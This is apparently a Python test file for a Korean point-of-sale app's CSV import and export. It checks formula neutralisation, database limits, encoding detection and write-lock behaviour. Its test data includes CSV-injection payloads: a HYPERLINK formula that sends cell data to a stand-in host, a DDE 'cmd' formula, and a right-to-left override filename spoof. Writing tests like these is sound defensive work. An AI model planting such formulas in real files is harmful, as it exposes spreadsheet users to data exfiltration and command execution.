"""CSV both ways (issue 19, item 5): formula cells neutralised in every CSV the app writes; an
import checked against the database's real limits with a line-numbered Korean message on both
backends, never a traceback; decoded and checked before the write lock."""

from __future__ import annotations

import csv
import io
import sqlite3
import threading
import time
from pathlib import Path

import pytest
from sqlalchemy import select

from posapp.db.engine import Database
from posapp.db.models import Product
from posapp.inventory import csv_format, csv_io
from posapp.reports import catalog, export
from posapp.reports.model import Period
from posapp.ui.messages import words
from posapp.usecases.inventory_files import ProductFilesUseCases
from tests.conftest import Store

HEADER = "barcode,name_ko,name_en,region,producer,category,unit,price,tax,reorder_point,shelf_life_days\n"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"클릭")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1)",
    "-2+3",
]


def _row(code: str, name: str, price: str = "1000", shelf: str = "", name_en: str = "x") -> str:
    return f'{code},"{name.replace(chr(34), chr(34) * 2)}",{name_en},영주시,영주농협,과일,ea,{price},exempt,1,{shelf}\n'


CODES = ["8801234500012", "8801234500029", "8801234500036", "8801234500043", "8801234500050"]


def _import(db: Database, text: str | bytes) -> csv_format.ImportResult:
    data = text.encode() if isinstance(text, str) else text
    return db.transact(lambda uow: csv_io.import_products(uow, data))


def test_formula_names_are_exported_as_text_and_import_back_the_same(
    db: Database, tmp_path: Path
) -> None:
    _import(db, HEADER + "".join(_row(c, f) for c, f in zip(CODES, FORMULAS, strict=True)))
    path = tmp_path / "products.csv"
    db.read(lambda uow: csv_io.export_products(uow, path))
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    names = [r[1] for r in rows[1:]]
    assert names == ["'" + f for f in FORMULAS]  # a spreadsheet shows them, never runs them
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r)
    # the exported file imports back to the very same names (unchanged, not renamed)
    result = db.transact(lambda uow: csv_io.import_file(uow, path))
    assert result.unchanged == 5
    stored = db.read(
        lambda uow: list(uow.conn.execute(select(Product.name_ko).order_by(Product.id)).scalars())
    )
    assert stored == FORMULAS


def test_a_report_csv_neutralises_formula_text_but_keeps_negative_numbers(store: Store) -> None:
    from tests.support.report_week import build_week

    week = build_week(store)
    db = store.db
    db.transact(
        lambda uow: uow.conn.execute(
            Product.__table__.update().values(name_ko="=cmd|' /C calc'!A0")
        )
    )
    report = db.read(lambda uow: catalog.run(uow, "product", Period(week.d1, week.d2)))
    rows = list(csv.reader(io.StringIO(export.to_csv(report).decode("utf-8-sig"))))
    cells = [c for r in rows for c in r]
    assert "'=cmd|' /C calc'!A0" in cells
    assert not any(c.startswith("=") for c in cells)
    numbers = [c for c in cells if c.lstrip("-").isdigit()]
    assert numbers  # money stays bare integers a spreadsheet can sum


@pytest.mark.parametrize(
    ("row", "column", "code"),
    [
        (_row(CODES[0], "사과", price="2147483648"), "price", "csv.too_large"),
        (_row(CODES[0], "사과", price="9" * 40), "price", "csv.too_large"),
        (_row(CODES[0], "가" * 100_000), "name_ko", "csv.text_long"),
        (_row(CODES[0], "사과\x00"), "name_ko", "csv.control_char"),
        (_row(CODES[0], "사과\u202egnp.exe"), "name_ko", "csv.control_char"),
        (_row(CODES[0], "사과", name_en="Apple\x07"), "name_en", "csv.control_char"),
        (_row(CODES[0], "사과", shelf="99999999"), "shelf_life_days", "csv.too_large"),
    ],
)
def test_limits_of_the_database_are_checked_on_both_backends(
    db: Database, row: str, column: str, code: str
) -> None:
    with pytest.raises(csv_format.ImportRejected) as caught:
        _import(db, HEADER + _row(CODES[1], "배") + row)
    [err] = caught.value.errors
    assert (err.line, err.column, err.code) == (3, column, code)
    said = words(err.code, err.data, "ko")
    assert said and any("\uac00" <= ch <= "\ud7a3" for ch in said)  # said in Korean
    assert db.read(lambda uow: uow.conn.execute(select(Product.id)).first()) is None


def test_the_largest_values_the_database_holds_are_accepted(db: Database) -> None:
    result = _import(db, HEADER + _row(CODES[0], "가" * 200, price="2147483647", shelf="3650"))
    assert result.created == 1


def test_a_bom_in_front_of_cp949_text_is_read_as_cp949(db: Database, tmp_path: Path) -> None:
    text = HEADER + _row(CODES[0], "영주 사과")
    data = b"\xef\xbb\xbf" + text.encode("cp949")
    assert _import(db, data).encoding == "cp949"
    path = tmp_path / "bom-cp949.csv"
    path.write_bytes(data.replace("영주 사과".encode("cp949"), "청송 사과".encode("cp949")))
    result = db.transact(lambda uow: csv_io.import_file(uow, path))
    assert result.encoding == "cp949" and result.updated == 1


def test_a_file_neither_utf8_nor_cp949_is_refused_in_words(db: Database, tmp_path: Path) -> None:
    path = tmp_path / "binary.csv"
    path.write_bytes(HEADER.encode() + b"\xff\xfe\xfa\x80\x81\n")
    with pytest.raises(csv_format.ImportRejected) as caught:
        db.transact(lambda uow: csv_io.import_file(uow, path))
    assert caught.value.errors[0].code == "csv.encoding"


def test_a_rejected_file_never_waits_for_the_write_lock(tmp_path: Path) -> None:
    """Before: the file was parsed inside the import's transaction, so a sale waited for it and
    a refused file still held the lock. Now it is read and checked first: with another writer
    holding SQLite's write lock, a bad file is refused at once."""
    from posapp.db.migrate import migrate

    url_path = tmp_path / "pos.sqlite3"
    db = Database(f"sqlite:///{url_path}")
    migrate(db.engine)
    bad = tmp_path / "bad.csv"
    bad.write_text(
        HEADER + "".join(_row(CODES[0], "사과", price="2147483648") for _ in range(2000))
    )
    holder = sqlite3.connect(url_path, timeout=30, isolation_level=None)
    holder.execute("BEGIN IMMEDIATE")  # a long sale, say
    release = threading.Timer(20, lambda: holder.execute("ROLLBACK"))
    release.start()
    try:
        t0 = time.monotonic()
        with pytest.raises(csv_format.ImportRejected) as caught:
            ProductFilesUseCases(db).import_file(bad, user_id=1)
        assert time.monotonic() - t0 < 5
        assert len(caught.value.errors) >= 2000
    finally:
        release.cancel()
        holder.execute("ROLLBACK")
        holder.close()
        db.dispose()
